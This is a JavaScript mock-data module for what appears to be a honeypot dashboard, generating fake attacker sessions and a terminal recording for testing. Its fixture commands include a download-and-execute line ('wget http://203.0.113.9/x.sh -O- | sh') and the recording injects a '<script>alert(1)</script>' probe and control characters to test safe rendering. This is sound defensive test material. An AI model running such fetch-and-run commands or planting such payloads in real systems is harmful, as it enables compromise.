// Sessions of the mock, 100,000 of them, and the recording of a terminal.
import { attackerBy, attackers, deckies, iso, kRows } from './data.mjs';
import { inSpan, matching, sorted } from './lists.mjs';
import { sha256ish, uuid } from './random.mjs';

const kSpanMs = 7 * 86_400_000;
const services = ['ssh', 'ftp', 'http', 'telnet', 'redis'];
const commands = ['uname -a', 'cd /tmp; wget http://203.0.113.9/x.sh -O- | sh', 'cat /proc/cpuinfo', "echo -e '\\x41'\u0007\u202e"];
const now = Date.now();

function row(index) {
  const attacker = attackers[(index * 7919) % attackers.length];
  const service = services[index % services.length];
  const started = now - Math.floor((index / kRows) * kSpanMs) - 1000;
  const isOpen = index === 3;
  const recorded = service === 'ssh' || service === 'telnet';
  const accepted = recorded && index % 2 === 0 ? 1 : 0;
  const duration = 900 + ((index * 104_729) % 900_000);
  return {
    uuid: uuid(3, index), attacker_uuid: attacker.uuid, attacker_ip: attacker.ip, decky: deckies[index % deckies.length].name, service, src_port: 40000 + (index % 20000), dst_port: { ssh: 22, ftp: 21, http: 80, telnet: 23, redis: 6379 }[service],
    proto: 'tcp', started_at: iso(started), ended_at: isOpen ? null : iso(started + duration), duration_ms: isOpen ? null : duration, bytes_in: 400 + (index % 9000), bytes_out: 900 + ((index * 31) % 90_000),
    events: 9, logins: accepted + (index % 3), commands: recorded ? commands.length : 0, files: recorded ? 1 : 0, end_reason: isOpen ? null : 'quit', accepted, has_recording: recorded, segments: recorded ? 2 : 0, recorded_ms: recorded ? 95_000 : 0,
  };
}

const rows = Array.from({ length: kRows }, (_, index) => row(index));

export function sessionsFor(query) {
  let found = matching(inSpan(rows, query, 'started_at'), query, { attacker_uuid: 'attacker_uuid', ip: 'attacker_ip', decky: 'decky', service: 'service', has_recording: 'has_recording' });
  const login = query.get('has_login');
  if (login !== null) found = found.filter(({ accepted }) => (accepted > 0) === (login === 'true'));
  const least = Number(query.get('duration_min_ms') ?? 0);
  if (least > 0) found = found.filter(({ duration_ms }) => (duration_ms ?? 0) >= least);
  const text = query.get('command');
  if (text !== null) found = found.filter((each) => each.commands > 0 && commands.some((command) => command.includes(text)));
  // Every attacker has some, also those that no row names.
  const attacker = attackerBy.get(query.get('attacker_uuid'));
  if (attacker && found.length === 0) found = rows.slice(0, 3).map((each) => ({ ...each, attacker_uuid: attacker.uuid, attacker_ip: attacker.ip }));
  return sorted(found, query.get('sort'), '-started_at');
}

export function sessionDetail(id, state) {
  const index = parseInt(id.slice(-12), 16);
  const session = rows[index] ?? { ...rows[1], uuid: id };
  const at = (ms) => iso(Date.parse(session.started_at) + ms);
  return {
    ...session, cut: false,
    login_list: Array.from({ length: session.logins }, (_, n) => ({
      seq: 10 + n, at: at(900 * n), offset_ms: 900 * n, principal: ['root', 'admin\u0000', '\u202etoor'][n % 3], method: 'password', secret_kind: 'plaintext', secret: '•••••',
      outcome: n === session.logins - 1 && session.accepted ? 'accepted' : 'refused',
    })),
    command_list: commands.slice(0, session.commands).map((command, n) => ({ seq: 20 + n, at: at(4000 + n * 9000), offset_ms: 4000 + n * 9000, command, output_bytes: 120, exit_status: n === 2 ? '1' : '0' })),
    file_list: session.files ? [{ seq: 30, at: at(15_000), offset_ms: 15_000, name: 'x.sh', path: '/tmp/x.sh', sha256: sha256ish(1), size: 4198, stored: true }] : [],
    urls: session.files ? ['http://203.0.113.9/x.sh'] : [],
    recordings: session.has_recording ? [{ recording: 0, segments: 2, missing: 0, bytes: 5231, duration_ms: session.recorded_ms, final: !state.growing, truncated: false }] : [],
  };
}

const header = '{"version":2,"width":80,"height":24,"timestamp":1790000000,"title":"root@web-01","env":{"TERM":"xterm-256color","SHELL":"/bin/bash"}}\n';
const prompt = '\u001b[1;32mroot@web-01\u001b[0m:\u001b[1;34m~\u001b[0m# ';
const lines = [];
const say = (time, code, text) => lines.push(`${JSON.stringify([time, code, text])}\n`);

function type(from, text) {
  [...text].forEach((character, n) => {
    say(from + n * 0.12, 'i', character);
    say(from + n * 0.12 + 0.01, 'o', character);
  });
  say(from + text.length * 0.12 + 0.1, 'i', '\r');
  say(from + text.length * 0.12 + 0.1, 'm', `command ${text}`);
}

say(0.1, 'm', 'login root accepted');
say(0.2, 'o', `Linux web-01 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 x86_64\r\n\r\n${prompt}`);
type(2, 'uname -a');
say(3.5, 'o', `\r\nLinux web-01 6.1.0-28-amd64 #1 SMP Debian x86_64 GNU/Linux\r\n${prompt}`);
type(8, 'wget http://203.0.113.9/x.sh');
say(12, 'm', 'download http://203.0.113.9/x.sh');
say(12.2, 'o', `\r\n\u001b[31mConnecting to 203.0.113.9:80... failed: Connection timed out.\u001b[0m\r\n${prompt}`);
type(40, 'su - backup');
say(42, 'o', '\r\nPassword: ');
say(44, 's', '1');
say(44, 'i', 'backup123\r');
say(45, 'o', `\r\nsu: Authentication failure\r\n${prompt}`);
say(50, 'r', '100x30');
say(50.5, 'o', '\u001b[33mno UTF-8: \uefff\uef80\u001b[0m \u001b]0;a title\u0007<script>alert(1)</script>\r\n');
say(52, 'o', prompt);
type(55, 'cat /proc/cpuinfo');
say(58, 'o', `\r\n${'processor\t: 0\r\nmodel name\t: Example CPU @ 2.40GHz\r\n'.repeat(20)}${prompt}`);
type(90, 'exit');
const grown = `${JSON.stringify([95, 'o', '\r\nlogout, and more came\r\n'])}\n`;

export function recording({ query, state }) {
  const after = Number(query.get('after') ?? -1);
  const isWhole = !state.growing || after >= 0;
  return {
    status: 200, type: 'application/x-asciicast', text: after >= 0 ? grown : header + lines.join('') + (state.growing ? '' : grown),
    headers: { 'Decnet-Segment': isWhole ? '1' : '0', 'Decnet-Final': isWhole ? 'true' : 'false' },
  };
}
